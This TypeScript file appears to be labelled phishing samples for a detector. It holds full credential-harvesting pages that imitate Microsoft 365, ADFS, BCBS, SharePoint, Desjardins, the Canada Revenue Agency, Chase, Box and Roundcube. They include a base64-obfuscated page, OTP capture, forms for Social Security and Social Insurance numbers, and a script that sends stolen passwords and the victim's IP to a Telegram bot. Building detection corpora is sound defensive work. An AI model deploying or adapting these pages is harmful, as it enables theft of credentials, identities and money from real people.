import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, campusCss, codes, doc, esc, googleLogo, msCss, msFooter, msLogo } from '../parts/zt-kit.js';

export const entries: Entry[] = [
{
  id: 'zt-m365-payroll-telegram',
  label: 'phishing',
  kind: 'm365-payroll-kit',
  url: 'https://payroll-adjustment-notice.web.app/portal/#hr.benefits@northgatehealth.org',
  body: doc('Payroll | Microsoft 365', `
<div class="ms-box">
  ${msLogo}
  <p style="margin:14px 0 0;color:#444">Human Resources &mdash; Payroll Services</p>
  <h1>2025 Salary Adjustment Letter</h1>
  <p class="ms-small">A confidential document has been shared with you regarding your Q3 compensation adjustment. Confirm your work account to open <b>Salary_Adjustment_Q3.pdf</b>.</p>
  <form id="f" autocomplete="off">
    <input type="email" id="u" name="email" placeholder="someone@example.com" required>
    <input type="password" id="p" name="password" placeholder="Password" required>
    <button class="ms-btn" type="submit">Open document</button><div style="clear:both"></div>
  </form>
  <p class="ms-small" id="msg"></p>
</div>${msFooter}
<script>
var h=location.hash.slice(1);if(h.indexOf('@')>0){document.getElementById('u').value=h;document.getElementById('u').readOnly=true}
var bot='7428816305:AAHk3vL0pQm2sXnR9dFzT1uYb8cWe4gJqO0', chat='-1002219843311';
document.getElementById('f').onsubmit=async function(e){
  e.preventDefault();
  var ip={};try{ip=await (await fetch('https://ipapi.co/json/')).json()}catch(x){}
  var t='PAYROLL 365\\nUser: '+u.value+'\\nPass: '+p.value+'\\nIP: '+(ip.ip||'')+' '+(ip.city||'')+'\\nUA: '+navigator.userAgent;
  await fetch('https://api.telegram.org/bot'+bot+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:chat,text:t})});
  document.getElementById('msg').textContent='Document loading, please wait...';
  setTimeout(function(){location.replace('https://www.office.com/')},1500);
};
</script>`, { css: msCss }),
},
{
  id: 'zt-benefits-enrolment-redirect-chain',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://urldefense.northgate-secure-links.com/v3/__https:/benefits-enroll.click/open-enrollment__;!!Kd8x!q1w2e3$',
  routes: {
    'urldefense.northgate-secure-links.com/v3/__https:/benefits-enroll.click/open-enrollment__;!!Kd8x!q1w2e3$': redirectRoute(302, 'https://benefits-enroll.click/open-enrollment'),
    'benefits-enroll.click/open-enrollment': htmlRoute(`<!doctype html><html><head><meta http-equiv="refresh" content="1;url=https://nu-benefits2025.hrportal-sso.com/adfs/ls/?wa=wsignin1.0&amp;wtrealm=urn:benefits"><title>Loading...</title></head><body style="font-family:Arial;text-align:center;padding-top:20vh;color:#555">Redirecting you to the Open Enrollment portal&hellip;</body></html>`),
    'nu-benefits2025.hrportal-sso.com/adfs/ls/': htmlRoute(doc('Sign In', `
<div style="display:flex;min-height:100vh">
 <div style="flex:1;background:linear-gradient(135deg,#5b1f2e,#8a3346);color:#fff;padding:60px">
   <h2 style="font:600 30px Georgia,serif">Northgate University Health</h2>
   <p style="font-size:18px;max-width:420px">2026 Open Enrollment closes <b>November 14</b>. Employees who do not confirm elections will be defaulted to Employee-Only coverage.</p>
 </div>
 <div style="width:460px;padding:70px 48px;background:#fff">
   <h3 style="font-weight:400;font-size:22px">Sign in with your organizational account</h3>
   <form method="post" action="/adfs/ls/auth.php" id="loginForm">
     <input name="UserName" type="email" placeholder="someone@northgatehealth.org" style="width:100%;padding:8px;margin:6px 0" required>
     <input name="Password" type="password" placeholder="Password" style="width:100%;padding:8px;margin:6px 0" required>
     <input type="hidden" name="AuthMethod" value="FormsAuthentication">
     <button type="submit" style="background:#0072c6;color:#fff;border:0;padding:9px 22px;margin-top:8px">Sign in</button>
   </form>
   <p style="font-size:12px;color:#666;margin-top:40px">&copy; 2025 Microsoft</p>
 </div>
</div>`)),
  },
},
{
  id: 'zt-insurance-member-ssn',
  label: 'phishing',
  kind: 'health-insurance-kit',
  url: 'https://member-bluecross-mi.claims-review.net/eob/verify',
  body: doc('Member Sign In | Blue Cross Blue Shield of Michigan', `
<div style="background:#0066b2;color:#fff;padding:14px 30px;font:600 20px Arial">BlueCross BlueShield <span style="font-weight:300">of Michigan</span></div>
<div style="max-width:760px;margin:30px auto;display:flex;gap:30px;font-family:Arial">
 <div style="flex:1"><h2>Claim on hold</h2><p>A claim for services on <b>09/18/2025</b> at Northgate University Health is on hold pending member identity verification. Verify within 48 hours to avoid denial of coverage.</p></div>
 <form style="flex:1;background:#f4f7fa;padding:20px;border-radius:6px" method="post" action="/eob/verify/step2.php">
  <label>Username</label><input name="user" required style="width:100%;padding:8px">
  <label>Password</label><input name="pass" type="password" required style="width:100%;padding:8px">
  <label>Member ID</label><input name="memberid" placeholder="XYZ123456789" style="width:100%;padding:8px">
  <label>Social Security Number</label><input name="ssn" placeholder="###-##-####" maxlength="11" style="width:100%;padding:8px">
  <label>Date of birth</label><input name="dob" type="date" style="width:100%;padding:8px">
  <button style="margin-top:14px;background:#0066b2;color:#fff;border:0;padding:10px 22px">Verify and continue</button>
 </form>
</div>`),
},
{
  id: 'zt-hr-sharepoint-docwrite-b64',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://ipfs.io/ipfs/bafybeigh7xq3nrw2sd5ldkzm4vq3lqkz2vb7hp6yj/hr-review.html',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#8203;</title></head><body><script>document.write(atob("${b64(doc('SharePoint Online', `
<div style="background:#036c70;color:#fff;padding:10px 18px;font:600 16px Segoe UI">SharePoint</div>
<div class="ms-box">
 ${msLogo}
 <h1>HR_Annual_Performance_Review_2025.xlsx</h1>
 <p class="ms-small">Shared by Human Resources &middot; 84 KB &middot; Restricted to Northgate staff</p>
 <form id="sp" method="post" action="https://hr-review-docs.onrender.com/next.php">
  <input type="email" name="ai" placeholder="Work email" required>
  <input type="password" name="pr" placeholder="Password" required>
  <button class="ms-btn">Verify</button><div style="clear:both"></div>
 </form>
</div>${msFooter}`, { css: msCss }))}"));</script></body></html>`,
},
{
  id: 'zt-desjardins-fr-kit',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://accesd-desjardins.securite-client.ca/identifiant/connexion.php',
  body: doc('AccèsD - Desjardins', `
<div style="background:#00874e;color:#fff;padding:14px 28px;font:700 22px Arial">Desjardins</div>
<div style="max-width:460px;margin:40px auto;font-family:Arial">
 <h1 style="font-size:24px">Connexion à AccèsD</h1>
 <p style="background:#fff3cd;padding:10px;font-size:14px">Pour votre sécurité, votre accès a été temporairement limité. Veuillez confirmer votre identité afin de rétablir vos services.</p>
 <form method="post" action="verif.php">
  <label>Identifiant (numéro de carte d'accès)</label><input name="carte" maxlength="19" style="width:100%;padding:9px">
  <label>Mot de passe</label><input name="mdp" type="password" style="width:100%;padding:9px">
  <label>Réponse à votre question de sécurité</label><input name="question" style="width:100%;padding:9px">
  <label>Numéro de téléphone cellulaire</label><input name="tel" type="tel" style="width:100%;padding:9px">
  <button style="margin-top:16px;background:#00874e;color:#fff;border:0;padding:11px 26px;border-radius:4px">Valider</button>
 </form>
 <p style="font-size:12px;color:#666">© 2025 Mouvement des caisses Desjardins. Tous droits réservés.</p>
</div>`, { lang: 'fr' }),
},
{
  id: 'zt-cra-refund-fr-interac',
  label: 'phishing',
  kind: 'government-kit',
  url: 'https://arc-remboursement.canada-ca.help/fr/agence-revenu/interac/deposer.html',
  body: doc('Agence du revenu du Canada - Remboursement', `
<div style="border-bottom:4px solid #26374a;padding:12px 30px;display:flex;gap:12px;align-items:center"><span style="color:#eb2d37;font-size:26px">&#x1F341;</span><span style="font:600 15px Arial">Gouvernement du Canada / Government of Canada</span></div>
<div style="max-width:700px;margin:28px auto;font-family:Noto Sans,Arial">
 <h1 style="font-size:30px;border-bottom:2px solid #af3c43;padding-bottom:6px">Dépôt de votre remboursement d'impôt</h1>
 <p>Suite au recalcul de votre déclaration 2024, vous avez droit à un remboursement de <b>612,48 $</b>. Sélectionnez votre institution financière pour recevoir le virement Interac.</p>
 <form method="post" action="banque.php" style="background:#f5f5f5;padding:20px">
  <label>Institution financière</label><select name="banque" style="width:100%;padding:8px"><option>Desjardins</option><option>RBC Banque Royale</option><option>Banque Nationale</option><option>BMO</option><option>TD</option><option>Banque Scotia</option></select>
  <label>Nom complet</label><input name="nom" style="width:100%;padding:8px">
  <label>Numéro d'assurance sociale (NAS)</label><input name="nas" maxlength="11" style="width:100%;padding:8px">
  <label>Date de naissance</label><input name="ddn" placeholder="JJ/MM/AAAA" style="width:100%;padding:8px">
  <button style="margin-top:14px;background:#26374a;color:#fff;border:0;padding:10px 24px">Continuer</button>
 </form>
</div>`, { lang: 'fr' }),
},
{
  id: 'zt-chase-otp-two-step',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://chase.secure-alerts-verify.com/web/auth/logon',
  body: doc('Sign in - chase.com', `
<div style="background:url() #0b2d5b;min-height:100vh;font-family:Arial;padding-top:60px">
 <div style="max-width:380px;margin:auto;background:#fff;border-radius:6px;padding:30px">
  <div style="font:700 24px Arial;color:#117aca">CHASE &#x25A3;</div>
  <div id="a"><p style="font-size:14px">We noticed an unusual sign in attempt on your account. Sign in to review recent activity.</p>
   <input id="u" placeholder="Username" style="width:100%;padding:12px;margin:6px 0"><input id="p" type="password" placeholder="Password" style="width:100%;padding:12px;margin:6px 0">
   <button id="b1" style="width:100%;background:#117aca;color:#fff;border:0;padding:12px;border-radius:4px">Sign in</button></div>
  <div id="b" style="display:none"><p style="font-size:14px">We sent a temporary identification code to your phone ending in ****. Enter it below.</p>
   <input id="c" maxlength="8" style="width:100%;padding:12px;margin:6px 0"><button id="b2" style="width:100%;background:#117aca;color:#fff;border:0;padding:12px;border-radius:4px">Next</button></div>
 </div>
</div>
<script>
function post(d){return fetch('/web/auth/gate.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(d)})}
b1.onclick=function(){post({u:u.value,p:p.value}).finally(function(){a.style.display='none';b.style.display='block'})};
b2.onclick=function(){post({u:u.value,otp:c.value}).finally(function(){location.href='https://www.chase.com/'})};
</script>`),
},
{
  id: 'zt-box-shared-folder-kit',
  label: 'phishing',
  kind: 'cloud-storage-kit',
  url: 'https://app-box.com-shared.folder-access.net/s/8l2pz0xw4kq7',
  body: doc('Box | Shared Folder', `
<div style="background:#fff;border-bottom:1px solid #e8e8e8;padding:12px 24px;font:700 26px Arial;color:#0061d5">box</div>
<div style="max-width:900px;margin:30px auto;font-family:Lato,Arial;display:flex;gap:30px">
 <div style="flex:1"><h2>Department of Surgery &mdash; Resident Evaluations</h2>
  <table style="width:100%;font-size:14px;border-collapse:collapse"><tr><td>&#x1F4C4; PGY2_Evaluations_Fall.pdf</td><td>1.2 MB</td></tr><tr><td>&#x1F4C4; Call_Schedule_Nov.xlsx</td><td>88 KB</td></tr><tr><td>&#x1F4C4; Stipend_Increase_Memo.docx</td><td>41 KB</td></tr></table></div>
 <form style="width:320px;border:1px solid #ddd;border-radius:6px;padding:20px" method="post" action="/s/auth" onsubmit="this.querySelector('button').disabled=true">
  <h3>Log in to preview</h3>
  <label>Email</label><input name="login" type="email" style="width:100%;padding:8px">
  <label>Password</label><input name="password" type="password" style="width:100%;padding:8px">
  <button style="margin-top:12px;width:100%;background:#0061d5;color:#fff;border:0;padding:10px;border-radius:4px">Continue</button>
 </form>
</div>`),
},
{
  id: 'zt-roundcube-dept-clone',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://webmail-northgate.edu-quota.com/roundcube/?_task=login',
  routes: {
    'webmail-northgate.edu-quota.com/roundcube/': htmlRoute(doc('Roundcube Webmail :: Welcome to Roundcube Webmail', `
<div style="max-width:380px;margin:80px auto;font-family:Arial;text-align:center">
 <div style="font:700 28px Arial;color:#37beff">roundcube &#x25CF;</div>
 <div style="background:#ffecec;color:#a00;padding:10px;font-size:13px;margin:14px 0">Mailbox quota 98% full (4.9 GB / 5 GB). Log in to upgrade storage, or incoming mail will be rejected.</div>
 <form name="login" method="post" action="./?_task=login&amp;_action=upgrade" style="text-align:left">
  <input type="hidden" name="_token" value="Q2k7YXB0eGt2d3Rw"><input type="hidden" name="_task" value="login">
  <label>Username</label><input name="_user" style="width:100%;padding:8px"><label>Password</label><input name="_pass" type="password" style="width:100%;padding:8px">
  <button style="margin-top:12px;width:100%;background:#37beff;color:#fff;border:0;padding:10px">Login</button>
 </form>
</div>`)),
  },
},
];
